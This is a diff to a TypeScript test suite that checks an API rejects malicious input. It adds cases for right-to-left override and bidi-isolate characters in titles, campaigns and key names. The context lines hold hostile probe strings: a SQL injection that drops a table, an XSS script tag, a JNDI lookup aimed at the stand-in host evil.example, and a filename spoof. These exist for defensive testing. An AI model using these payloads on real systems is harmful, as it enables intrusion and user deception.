@@ -28,6 +28,7 @@ const ONE = `${LINK}/${EXISTING}`
 
 const SQL = "x'; drop table links; --"
 const XSS = '<script>alert(1)</script>'
+// biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
 const TEMPLATE = '${jndi:ldap://evil.example/a}{{7*7}}'
 const RTL = 'https://example.com/\u202Egnp.exe'
 const HUGE = 'a'.repeat(70 * 1024)
@@ -130,6 +131,13 @@ const links: Case[] = [
     field: 'title',
   },
   {
+    name: 'title with a right-to-left override',
+    url: LINK,
+    body: { url: 'https://example.com', title: 'invoice \u202Efdp.exe' },
+    status: 400,
+    field: 'title',
+  },
+  {
     name: 'title of 301 characters',
     url: LINK,
     body: { url: 'https://example.com', title: 't'.repeat(301) },
@@ -189,6 +197,13 @@ const links: Case[] = [
     name: 'campaign with a NUL byte',
     url: LINK,
     body: { url: 'https://example.com', campaign: '\u0000' },
+    status: 400,
+    field: 'campaign',
+  },
+  {
+    name: 'campaign with a bidi isolate',
+    url: LINK,
+    body: { url: 'https://example.com', campaign: 'spring\u2067sale' },
     status: 400,
     field: 'campaign',
   },
@@ -363,6 +378,13 @@ const keys: Case[] = [
     name: 'key name with a NUL byte',
     url: KEYS,
     body: { name: 'a\u0000', scopes: ['links:read'] },
+    status: 400,
+    field: 'name',
+  },
+  {
+    name: 'key name with a right-to-left override',
+    url: KEYS,
+    body: { name: 'cms\u202Enimda', scopes: ['links:read'] },
     status: 400,
     field: 'name',
   },
